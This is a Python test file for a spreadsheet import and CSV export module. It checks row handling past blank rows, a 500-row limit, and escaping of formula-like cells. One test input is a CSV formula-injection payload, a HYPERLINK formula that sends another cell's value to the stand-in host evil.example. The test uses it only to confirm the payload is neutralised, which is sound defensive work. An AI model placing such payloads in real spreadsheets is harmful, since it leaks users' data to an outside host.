"""Rows of a workbook past blank ones, and CSV that a spreadsheet opens as text."""

from __future__ import annotations

import csv
import io

import pytest

from saas.batches import sheets
from saas.errors import ServiceError


def workbook(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_blank_rows_do_not_push_products_off_the_end_of_a_workbook():
    """Rows were read to position 502, blank or not: 10 blank rows lost 4 products."""
    products = [[f"p{i}"] for i in range(495)]
    rows = sheets._xlsx(workbook([["name"], *[[None]] * 10, *products]))
    assert len(rows) == 495 and rows[-1] == {"name": "p494"}


def test_more_than_500_products_after_blank_rows_are_refused_not_cut():
    data = workbook([["name"], *[[None]] * 10, *[[f"p{i}"] for i in range(501)]])
    with pytest.raises(ServiceError, match=f"at most {sheets.MAX_ROWS} rows"):
        sheets._xlsx(data)


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("https://evil.example/?"&B2,"open")', "+1+1", "-2+3", "@SUM(1)",
              "\tx", "  =1+1"],
)  # fmt: skip
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    text = sheets.to_csv([value], [[value], [7]])
    header, first, second = list(csv.reader(io.StringIO(text)))
    assert header == first == ["'" + value] and second == ["7"]


def test_ordinary_values_are_written_as_they_are():
    text = sheets.to_csv(["name", "price"], [["Mug", "24.50"], ["A - B", ""]])
    assert list(csv.reader(io.StringIO(text))) == [["name", "price"], ["Mug", "24.50"],
                                                   ["A - B", ""]]  # fmt: skip


def test_a_sample_filled_in_and_uploaded_again_reads_its_values_back():
    text = sheets.to_csv(["offer", "name"], [["-20% today", "'90s mug"]])
    assert sheets._rows(list(csv.reader(io.StringIO(text)))) == [
        {"offer": "-20% today", "name": "'90s mug"}
    ]
